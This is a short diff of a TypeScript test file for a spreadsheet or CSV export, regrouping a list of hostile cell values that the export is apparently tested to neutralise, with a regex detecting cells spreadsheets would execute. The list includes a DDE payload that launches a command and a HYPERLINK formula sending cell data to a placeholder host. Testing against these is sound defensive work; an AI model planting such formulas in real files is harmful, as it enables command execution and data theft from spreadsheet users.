@@ -14,15 +14,8 @@ const plain: ExportRow = {
 };
 const HOSTILE = [
   ...["=1+1", "+57 300 123 4567", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1+1", "＝1+1", "'=1"],
-  ...[
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://mal.example?"&A1;"clic")',
-    'a "b"; c, d',
-    "uno\ndos",
-    " espacios ",
-    "<b>&amp;</b>",
-  ],
-  ...["😀 Zoë", "_x0041_"],
+  ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://mal.example?"&A1;"clic")'],
+  ...['a "b"; c, d', "uno\ndos", " espacios ", "<b>&amp;</b>", "😀 Zoë", "_x0041_"],
 ];
 const RUN_BY_SPREADSHEETS = /^(?:[\t\r\n]|\s*[=+\-@＝])/;
 const rows: ExportRow[] = [
